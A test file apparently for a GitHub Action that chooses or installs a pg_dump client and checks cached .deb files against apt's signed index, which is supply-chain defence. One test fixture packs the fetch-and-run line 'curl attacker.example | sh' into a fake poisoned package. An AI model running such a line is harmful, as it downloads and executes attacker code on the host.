/**
 * Matching pg_dump: the pure decision (server major × installed clients × environment → use / install /
 * fail), the install commands it builds, resolvePgTool running a plan through a fake installer, and the
 * judgement of cached .deb files against apt's index (a fake index, .deb files built with dpkg-deb).
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import {
  type AptQueries,
  type CachedDeb,
  judgeCachedDeb,
  parseAptCacheShow,
  parseAptSimulation,
  verifyCachedDebs,
  type WantedPackage,
} from '../../src/core/postgres/cached-debs.js';
import {
  type ClientEnvironment,
  type InstallPlan,
  installPlan,
  PGDG_SCRIPT,
  type PgVersionRequest,
  parsePgVersion,
  planPgClient,
  resolvePgTool,
  runInstallPlan,
} from '../../src/core/postgres/install.js';
import { UserError } from '../../src/util/errors.js';
import { type Logger, silentLogger } from '../../src/util/log.js';

const GITHUB: ClientEnvironment = {
  githubActions: true,
  runnerOs: 'Linux',
  platform: 'linux',
  aptGet: true,
  pgdgScript: true,
  root: false,
  sudo: true,
  imageOs: 'ubuntu24',
  imageVersion: '20261110.1.0',
  arch: 'x64',
};
const LAPTOP_DEBIAN: ClientEnvironment = { ...GITHUB, githubActions: false, runnerOs: undefined };
const MAC_RUNNER: ClientEnvironment = { ...GITHUB, runnerOs: 'macOS', platform: 'darwin', aptGet: false };
const SELF_HOSTED_NO_SUDO: ClientEnvironment = { ...GITHUB, sudo: false, root: false };
const CONTAINER_ROOT: ClientEnvironment = { ...GITHUB, root: true, sudo: false, pgdgScript: false };
const CACHE = '/tmp/debs';

type Expected = { use: number } | { install: number; first: string[]; pgdg: boolean } | { fail: RegExp };

const table: Array<[string, number, PgVersionRequest, number[], ClientEnvironment, Expected]> = [
  ['same major installed', 16, 'auto', [16], GITHUB, { use: 16 }],
  ['newer installed: oldest fitting one', 15, 'auto', [14, 16, 17], GITHUB, { use: 16 }],
  [
    'only older installed, GitHub Linux: install',
    17,
    'auto',
    [16],
    GITHUB,
    { install: 17, first: ['mkdir'], pgdg: true },
  ],
  ['nothing installed, GitHub Linux: install', 17, 'auto', [], GITHUB, { install: 17, first: ['mkdir'], pgdg: true }],
  [
    'older installed, laptop: fail with apt commands',
    17,
    'auto',
    [15],
    LAPTOP_DEBIAN,
    {
      fail: /sudo apt-get install -y postgresql-common && sudo \/usr\/share\/postgresql-common\/pgdg\/apt\.postgresql\.org\.sh -y && sudo apt-get install -y postgresql-client-17/,
    },
  ],
  [
    'older installed, macOS runner: fail with brew',
    17,
    'auto',
    [16],
    MAC_RUNNER,
    { fail: /brew install postgresql@17/ },
  ],
  ['no sudo on a self-hosted runner: fail', 17, 'auto', [16], SELF_HOSTED_NO_SUDO, { fail: /postgresql-client-17/ }],
  [
    'root in a container, no PGDG script: install it first',
    17,
    'auto',
    [],
    CONTAINER_ROOT,
    { install: 17, first: ['mkdir'], pgdg: false },
  ],
  ['explicit major installed', 15, 17, [15, 17], LAPTOP_DEBIAN, { use: 17 }],
  [
    'explicit major missing, GitHub: install it',
    15,
    17,
    [15, 16],
    GITHUB,
    { install: 17, first: ['mkdir'], pgdg: true },
  ],
  [
    'explicit major older than the server: fail',
    17,
    16,
    [16, 17],
    GITHUB,
    { fail: /'pg-version: 16' is older than the server \(PostgreSQL 17\)/ },
  ],
  [
    'explicit major missing, laptop: fail',
    15,
    18,
    [15],
    LAPTOP_DEBIAN,
    { fail: /pg_dump 18 or newer is needed \('pg-version: 18'; pg_dump installed: 15\)/ },
  ],
];

describe('planPgClient', () => {
  it.each(table)('%s', (_label, serverMajor, request, installed, env, expected) => {
    const plan = planPgClient({ tool: 'pg_dump', serverMajor, request, installed, env, cacheDir: CACHE });
    if ('use' in expected) expect(plan).toEqual({ action: 'use', major: expected.use });
    else if ('fail' in expected) {
      expect(plan.action).toBe('fail');
      expect(plan.action === 'fail' && plan.message).toMatch(expected.fail);
    } else {
      expect(plan.action).toBe('install');
      const p = (plan as { install: InstallPlan }).install;
      expect(p.major).toBe(expected.install);
      expect(p.package).toBe(`postgresql-client-${expected.install}`);
      expect(p.binDir).toBe(`/usr/lib/postgresql/${expected.install}/bin`);
      expect(p.fromNetwork[1]?.[0]).toBe(expected.first[0]);
      const flat = p.indexSetup.map((c) => c.join(' '));
      expect(flat.some((c) => c.includes('apt-get install -y postgresql-common'))).toBe(!expected.pgdg);
    }
  });

  it('names what is installed when it fails', () => {
    const plan = planPgClient({
      tool: 'pg_dump',
      serverMajor: 17,
      request: 'auto',
      installed: [16, 14],
      env: LAPTOP_DEBIAN,
      cacheDir: CACHE,
    });
    expect(plan.action === 'fail' && plan.message).toMatch(
      /^pg_dump 17 or newer is needed \(the server is PostgreSQL 17; pg_dump installed: 14, 16\)\. Install it — .* — or point 'pg-bin-dir' at a directory holding pg_dump 17\. On GitHub's Linux runners the action installs it by itself$/,
    );
  });
});

describe('installPlan', () => {
  it('sets up PGDG, downloads into the cache directory, installs the .deb files and makes them cacheable', () => {
    const p = installPlan(17, GITHUB, CACHE);
    expect(p.cacheKey).toBe('pgdr-pg-client-ubuntu24-20261110.1.0-x64-17');
    expect(p.indexSetup).toEqual([['sudo', PGDG_SCRIPT, '-y']]);
    expect(p.fromNetwork).toEqual([
      ['sudo', 'rm', '-rf', '/tmp/debs'],
      ['mkdir', '-p', '/tmp/debs/partial'],
      [
        'sudo',
        'apt-get',
        'install',
        '-y',
        '--no-install-recommends',
        '--download-only',
        '-o',
        'Dir::Cache::archives=/tmp/debs',
        'postgresql-client-17',
      ],
      ['sudo', 'sh', '-c', 'dpkg -i "$1"/*.deb', 'sh', '/tmp/debs'],
      ['sudo', 'rm', '-rf', '/tmp/debs/partial', '/tmp/debs/lock'],
      ['sudo', 'chmod', '-R', 'a+rX', '/tmp/debs'],
    ]);
    // No glob over a restored directory: only the files apt's index vouched for are appended.
    expect(p.installDebs).toEqual(['sudo', 'dpkg', '-i']);
  });

  it('as root, without sudo; without the PGDG script, installs postgresql-common first', () => {
    const p = installPlan(18, CONTAINER_ROOT, CACHE);
    expect(p.indexSetup).toEqual([
      ['apt-get', 'update'],
      ['apt-get', 'install', '-y', 'postgresql-common'],
      [PGDG_SCRIPT, '-y'],
    ]);
    expect([...p.indexSetup, ...p.fromNetwork, p.installDebs].flat()).not.toContain('sudo');
  });
});

describe('parsePgVersion', () => {
  it.each([
    ['', 'auto'],
    ['auto', 'auto'],
    ['AUTO', 'auto'],
    ['17', 17],
    [' 16 ', 16],
  ] as const)('%j → %j', (input, expected) => {
    expect(parsePgVersion(input)).toBe(expected);
  });
  it.each(['17.2', 'latest', '9', '-1', '100'])('%j is refused, naming the input', (input) => {
    expect(() => parsePgVersion(input)).toThrow(/'pg-version' must be 'auto' or a PostgreSQL major version/);
  });
});

describe('resolvePgTool', () => {
  /** A fake "installer" that puts a pg_dump reporting `major` where the plan says. */
  function fakeInstaller(calls: InstallPlan[]) {
    return {
      async install(plan: InstallPlan): Promise<void> {
        calls.push(plan);
        fs.mkdirSync(plan.binDir, { recursive: true });
        const f = path.join(plan.binDir, 'pg_dump');
        fs.writeFileSync(f, `#!/bin/sh\necho "pg_dump (PostgreSQL) ${plan.major}.2"\n`, { mode: 0o755 });
      },
    };
  }

  it('on a GitHub Linux runner, runs the install plan and uses the installed client', async () => {
    const root = fs.mkdtempSync(path.join(os.tmpdir(), 'pgroot-'));
    const calls: InstallPlan[] = [];
    const tool = await resolvePgTool('pg_dump', 99, {
      request: 'auto',
      installer: fakeInstaller(calls),
      env: GITHUB,
      cacheDir: CACHE,
      installRoot: root,
      log: silentLogger,
    });
    expect(calls.map((c) => c.package)).toEqual(['postgresql-client-99']);
    expect(tool).toEqual({ path: path.join(root, '99', 'bin', 'pg_dump'), version: '99.2', major: 99 });
    fs.rmSync(root, { recursive: true, force: true });
  });

  it('elsewhere, fails with the command to run and installs nothing', async () => {
    const calls: InstallPlan[] = [];
    const err = await resolvePgTool('pg_dump', 99, {
      request: 'auto',
      installer: fakeInstaller(calls),
      env: LAPTOP_DEBIAN,
      cacheDir: CACHE,
      log: silentLogger,
    }).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(UserError);
    expect((err as Error).message).toMatch(/apt-get install -y postgresql-client-99/);
    expect(calls).toEqual([]);
  });

  it('uses the installed client when it is new enough (the real pg_dump here)', async () => {
    const tool = await resolvePgTool('pg_dump', 12, {
      request: 'auto',
      env: LAPTOP_DEBIAN,
      cacheDir: CACHE,
      log: silentLogger,
    });
    expect(tool.major).toBeGreaterThanOrEqual(12);
  });
});

describe('actionsPgClientInstaller (the port, without a cache service)', () => {
  it('runs the index and network steps in order when the cache service is unavailable', async () => {
    const { actionsPgClientInstaller } = await import('../../src/hosts/actions-installer.js');
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pginst-'));
    const log = path.join(dir, 'log');
    const saved = { url: process.env.ACTIONS_CACHE_URL, results: process.env.ACTIONS_RESULTS_URL };
    delete process.env.ACTIONS_CACHE_URL;
    delete process.env.ACTIONS_RESULTS_URL;
    try {
      await actionsPgClientInstaller.install(
        {
          major: 99,
          package: 'postgresql-client-99',
          binDir: path.join(dir, 'bin'),
          cacheKey: 'k',
          cacheDir: path.join(dir, 'debs'),
          indexSetup: [['sh', '-c', `echo index >> ${log}`]],
          installDebs: ['sh', '-c', `echo cache >> ${log}`],
          fromNetwork: [
            ['sh', '-c', `echo one >> ${log}`],
            ['sh', '-c', `echo two >> ${log}`],
          ],
        },
        silentLogger,
      );
    } finally {
      if (saved.url !== undefined) process.env.ACTIONS_CACHE_URL = saved.url;
      if (saved.results !== undefined) process.env.ACTIONS_RESULTS_URL = saved.results;
    }
    expect(fs.readFileSync(log, 'utf8')).toBe('index\none\ntwo\n');
  });

  it('runs every step with the minimal environment: no inputs, tokens or cloud credentials', async () => {
    const { actionsPgClientInstaller } = await import('../../src/hosts/actions-installer.js');
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pginst-'));
    const out = path.join(dir, 'env');
    const planted = { INPUT_PASSPHRASE: 'p', AWS_SECRET_ACCESS_KEY: 's', ACTIONS_RUNTIME_TOKEN: 't' };
    const saved = { ...process.env };
    Object.assign(process.env, planted);
    delete process.env.ACTIONS_CACHE_URL;
    delete process.env.ACTIONS_RESULTS_URL;
    try {
      await actionsPgClientInstaller.install(
        {
          major: 99,
          package: 'postgresql-client-99',
          binDir: path.join(dir, 'bin'),
          cacheKey: 'k',
          cacheDir: path.join(dir, 'debs'),
          indexSetup: [['sh', '-c', `env > ${out}`]],
          installDebs: [],
          fromNetwork: [['sh', '-c', `env >> ${out}`]],
        },
        silentLogger,
      );
    } finally {
      for (const k of Object.keys(planted)) delete process.env[k];
      Object.assign(process.env, saved);
    }
    const names = fs
      .readFileSync(out, 'utf8')
      .split('\n')
      .map((l) => l.split('=')[0]);
    expect(names).toContain('PATH');
    for (const k of Object.keys(planted)) expect(names).not.toContain(k);
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('a failing step fails the install', async () => {
    const { actionsPgClientInstaller } = await import('../../src/hosts/actions-installer.js');
    await expect(
      actionsPgClientInstaller.install(
        {
          major: 99,
          package: 'postgresql-client-99',
          binDir: '/nonexistent',
          cacheKey: 'k',
          cacheDir: '/nonexistent',
          indexSetup: [],
          installDebs: [],
          fromNetwork: [['sh', '-c', 'exit 3']],
        },
        silentLogger,
      ),
    ).rejects.toThrow(/exit code 3/);
  });
});

/** `apt-cache show postgresql-client-15` on Debian 12 (trimmed), and a record from dpkg's status only. */
const APT_CACHE_SHOW = `Package: postgresql-client-15
Source: postgresql-15
Version: 15.18-0+deb12u1
Installed-Size: 8289
Architecture: amd64
Depends: libpq5 (>= 15.18), postgresql-client-common (>= 182~)
Description: front-end programs for PostgreSQL 15
Tag: role::program,
 use::entertaining
Filename: pool/main/p/postgresql-15/postgresql-client-15_15.18-0+deb12u1_amd64.deb
Size: 1746856
MD5sum: e88ad2de4e885aa8e4a8719a9394e6b5
SHA256: fc98076d378231baac95d6eae09a3e01730cd706f4d00bbcda6ba580d38355a1

Package: libpq5
Status: install ok installed
Version: 15.1-1
Architecture: amd64
Description: PostgreSQL C client library

`;

describe('parseAptCacheShow / parseAptSimulation', () => {
  it('reads package, version, architecture, SHA256 and size per record; a status-only record has no SHA256', () => {
    expect(parseAptCacheShow(APT_CACHE_SHOW)).toEqual([
      {
        package: 'postgresql-client-15',
        version: '15.18-0+deb12u1',
        architecture: 'amd64',
        sha256: 'fc98076d378231baac95d6eae09a3e01730cd706f4d00bbcda6ba580d38355a1',
        size: 1746856,
      },
      { package: 'libpq5', version: '15.1-1', architecture: 'amd64', sha256: undefined, size: undefined },
    ]);
    expect(parseAptCacheShow('')).toEqual([]);
  });

  it('reads the Inst lines of a simulated install, upgrades included', () => {
    const out = [
      'NOTE: This is only a simulation!',
      'Inst libpq5 [16.4-0ubuntu0.24.04.2] (17.2-1.pgdg24.04+1 apt.postgresql.org:noble-pgdg [amd64])',
      'Inst postgresql-client-common (267.pgdg24.04+1 apt.postgresql.org:noble-pgdg [all])',
      'Inst postgresql-client-17 (17.2-1.pgdg24.04+1 apt.postgresql.org:noble-pgdg [amd64])',
      'Conf libpq5 (17.2-1.pgdg24.04+1 apt.postgresql.org:noble-pgdg [amd64])',
    ].join('\n');
    expect(parseAptSimulation(out)).toEqual([
      { package: 'libpq5', version: '17.2-1.pgdg24.04+1', architecture: 'amd64' },
      { package: 'postgresql-client-common', version: '267.pgdg24.04+1', architecture: 'all' },
      { package: 'postgresql-client-17', version: '17.2-1.pgdg24.04+1', architecture: 'amd64' },
    ]);
  });
});

describe('judgeCachedDeb', () => {
  const SHA = 'a'.repeat(64);
  const deb: CachedDeb = {
    file: 'libpq5.deb',
    package: 'libpq5',
    version: '17.2-1',
    architecture: 'amd64',
    sha256: SHA,
    size: 10,
  };
  const wanted = [{ package: 'libpq5', version: '17.2-1', architecture: 'amd64' }];
  const rec = { package: 'libpq5', version: '17.2-1', architecture: 'amd64', sha256: SHA, size: 10 };
  it.each([
    ['the index lists its SHA256 and size', wanted, [rec], null],
    ['one of two records of the version matches', wanted, [{ ...rec, sha256: 'b'.repeat(64) }, rec], null],
    ['another SHA256', wanted, [{ ...rec, sha256: 'b'.repeat(64) }], /its SHA256 a{64} is not the one/],
    ['the SHA256 but another size', wanted, [{ ...rec, size: 11 }], /is not the one apt's signed index lists/],
    ['no record of that version', wanted, [{ ...rec, version: '17.1-1' }], /apt's index has no libpq5 17\.2-1/],
    ['a status-only record (no SHA256)', wanted, [{ ...rec, sha256: undefined }], /apt's index has no libpq5/],
    ['another architecture', wanted, [{ ...rec, architecture: 'i386' }], /apt's index has no/],
    ['not a package apt would install', [], [rec], /is not a package apt would install for the client/],
    [
      'another version than apt would install',
      [{ ...(wanted[0] as WantedPackage), version: '17.3-1' }],
      [rec],
      /is not a package apt would install/,
    ],
  ] as const)('%s', (_label, w, records, expected) => {
    const reason = judgeCachedDeb(deb, [...w], [...records]);
    if (expected === null) expect(reason).toBeNull();
    else expect(reason).toMatch(expected);
  });
});

describe('verifyCachedDebs and runInstallPlan (built .deb files, a fake apt index)', () => {
  const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'pgdebs-'));
  /** Builds `<name>.deb` with dpkg-deb; `payload` makes two builds of the same version differ. */
  function buildDeb(pkg: string, version: string, payload: string): string {
    const root = fs.mkdtempSync(path.join(tmp, 'build-'));
    fs.mkdirSync(path.join(root, 'DEBIAN'));
    fs.writeFileSync(
      path.join(root, 'DEBIAN', 'control'),
      `Package: ${pkg}\nVersion: ${version}\nArchitecture: all\nMaintainer: t <t@example.org>\nDescription: test\n`,
    );
    fs.mkdirSync(path.join(root, 'usr', 'share', pkg), { recursive: true });
    fs.writeFileSync(path.join(root, 'usr', 'share', pkg, 'payload'), payload);
    const out = path.join(tmp, `${pkg}-${createHash('sha256').update(payload).digest('hex').slice(0, 8)}.deb`);
    execFileSync('dpkg-deb', ['--root-owner-group', '-Zgzip', '--build', root, out], { stdio: 'ignore' });
    fs.rmSync(root, { recursive: true });
    return out;
  }
  const good = {
    client: buildDeb('postgresql-client-99', '99.1-1', 'the real client'),
    libpq: buildDeb('libpq99', '99.1-1', 'the real library'),
  };
  /** Same package and version as the real client, other bytes: what a poisoned cache would hold. */
  const evil = buildDeb('postgresql-client-99', '99.1-1', 'curl attacker.example | sh');
  const notADeb = path.join(tmp, 'not-a-deb');
  fs.writeFileSync(notADeb, '!<arch>\nnot really\n');

  /** What apt's signed index says: the real files' SHA256 and size. */
  function stanza(file: string, pkg: string): string {
    const bytes = fs.readFileSync(file);
    return [
      `Package: ${pkg}`,
      'Version: 99.1-1',
      'Architecture: all',
      `Filename: pool/main/p/${pkg}_99.1-1_all.deb`,
      `Size: ${bytes.length}`,
      `SHA256: ${createHash('sha256').update(bytes).digest('hex')}`,
      '',
    ].join('\n');
  }
  const shown: string[] = [];
  const fakeApt: AptQueries = {
    async simulateInstall(pkg) {
      expect(pkg).toBe('postgresql-client-99');
      return [
        'Inst libpq99 (99.1-1 PGDG:noble-pgdg [all])',
        'Inst postgresql-client-99 (99.1-1 PGDG:noble-pgdg [all])',
      ].join('\n');
    },
    async show(spec) {
      shown.push(spec);
      if (spec === 'postgresql-client-99:all=99.1-1') return stanza(good.client, 'postgresql-client-99');
      if (spec === 'libpq99:all=99.1-1') return stanza(good.libpq, 'libpq99');
      return '';
    },
  };
  /** A cache directory restored with these files (copied under apt's file names). */
  function restored(files: Record<string, string>): string {
    const dir = fs.mkdtempSync(path.join(tmp, 'cache-'));
    for (const [name, src] of Object.entries(files)) fs.copyFileSync(src, path.join(dir, name));
    return dir;
  }

  it('trusts a cache entry whose every file apt lists, and names exactly those files', async () => {
    const dir = restored({ 'libpq99_99.1-1_all.deb': good.libpq, 'postgresql-client-99_99.1-1_all.deb': good.client });
    fs.writeFileSync(path.join(dir, 'lock'), '');
    shown.length = 0;
    expect(await verifyCachedDebs(dir, 'postgresql-client-99', fakeApt)).toEqual({
      trusted: true,
      files: [path.join(dir, 'libpq99_99.1-1_all.deb'), path.join(dir, 'postgresql-client-99_99.1-1_all.deb')],
    });
    // Identity comes from the files' control fields, not their names.
    expect(shown.sort()).toEqual(['libpq99:all=99.1-1', 'postgresql-client-99:all=99.1-1']);
  });

  it('refuses a tampered file of the same package and version, naming it', async () => {
    const dir = restored({ 'libpq99_99.1-1_all.deb': good.libpq, 'postgresql-client-99_99.1-1_all.deb': evil });
    const v = await verifyCachedDebs(dir, 'postgresql-client-99', fakeApt);
    expect(v).toEqual({
      trusted: false,
      refused: [
        {
          file: 'postgresql-client-99_99.1-1_all.deb',
          reason: expect.stringMatching(
            /^its SHA256 [0-9a-f]{64} is not the one apt's signed index lists for postgresql-client-99 99\.1-1 \(all\)$/,
          ),
        },
      ],
    });
  });

  it.each([
    [
      'a package apt does not know',
      () => ({ 'x.deb': buildDeb('sneaky', '1.0', 'x'), 'c.deb': good.client, 'l.deb': good.libpq }),
      /x\.deb: sneaky 1\.0 \(all\) is not a package apt would install/,
    ],
    ['a file that is not a .deb', () => ({ 'c.deb': good.client, 'l.deb': notADeb }), /l\.deb: not a readable \.deb/],
    ['an incomplete entry', () => ({ 'c.deb': good.client }), /\(missing\): no cached \.deb for libpq99 99\.1-1/],
    ['an empty entry', () => ({}), /\(none\): the cache entry holds no \.deb file/],
  ])('refuses %s', async (_label, files, expected) => {
    const v = await verifyCachedDebs(restored(files()), 'postgresql-client-99', fakeApt);
    expect(v.trusted).toBe(false);
    expect(v.trusted === false && v.refused.map((r) => `${r.file}: ${r.reason}`).join('\n')).toMatch(expected);
  });

  it('refuses a symbolic link named .deb, even to a good file', async () => {
    const dir = restored({ 'l.deb': good.libpq });
    fs.symlinkSync(good.client, path.join(dir, 'c.deb'));
    const v = await verifyCachedDebs(dir, 'postgresql-client-99', fakeApt);
    expect(v.trusted === false && v.refused).toEqual([{ file: 'c.deb', reason: 'not a regular file' }]);
  });

  /** Runs a plan against a restored directory, recording the commands and warnings. */
  async function runWith(files: Record<string, string> | null) {
    const dir = path.join(fs.mkdtempSync(path.join(tmp, 'run-')), 'debs');
    const plan = installPlan(99, GITHUB, dir);
    const ran: string[][] = [];
    const warnings: string[] = [];
    const log: Logger = { ...silentLogger, warn: (m) => warnings.push(m) };
    let saved = 0;
    await runInstallPlan(
      plan,
      {
        async run(steps) {
          ran.push(...steps);
        },
        async restore() {
          if (!files) return false;
          fs.mkdirSync(dir);
          for (const [name, src] of Object.entries(files)) fs.copyFileSync(src, path.join(dir, name));
          return true;
        },
        async save() {
          saved++;
        },
        apt: fakeApt,
      },
      log,
    );
    return { plan, ran, warnings, saved, dir };
  }

  it('a trusted cache entry: refresh the index, then dpkg -i exactly the verified files; nothing downloaded', async () => {
    const r = await runWith({ 'l.deb': good.libpq, 'c.deb': good.client });
    expect(r.ran).toEqual([
      ...r.plan.indexSetup,
      ['sudo', 'dpkg', '-i', path.join(r.dir, 'c.deb'), path.join(r.dir, 'l.deb')],
    ]);
    expect(r.warnings).toEqual([]);
    expect(r.saved).toBe(0);
  });

  it('a poisoned cache entry: nothing from it installed, a warning names the file, fresh download', async () => {
    const r = await runWith({ 'l.deb': good.libpq, 'c.deb': evil });
    expect(r.ran).toEqual([...r.plan.indexSetup, ...r.plan.fromNetwork]);
    expect(r.ran.flat()).not.toContain(path.join(r.dir, 'c.deb'));
    expect(r.ran[r.plan.indexSetup.length]).toEqual(['sudo', 'rm', '-rf', r.dir]);
    expect(r.warnings[0]).toMatch(/^cached c\.deb refused: its SHA256 [0-9a-f]{64} is not the one apt's signed index/);
    expect(r.warnings[1]).toMatch(/cache entry pgdr-pg-client-.* is not what apt's signed index lists/);
    expect(r.saved).toBe(1);
  });

  it('no cache entry: refresh the index, download, install, save', async () => {
    const r = await runWith(null);
    expect(r.ran).toEqual([...r.plan.indexSetup, ...r.plan.fromNetwork]);
    expect(r.warnings).toEqual([]);
    expect(r.saved).toBe(1);
  });

  afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));
});
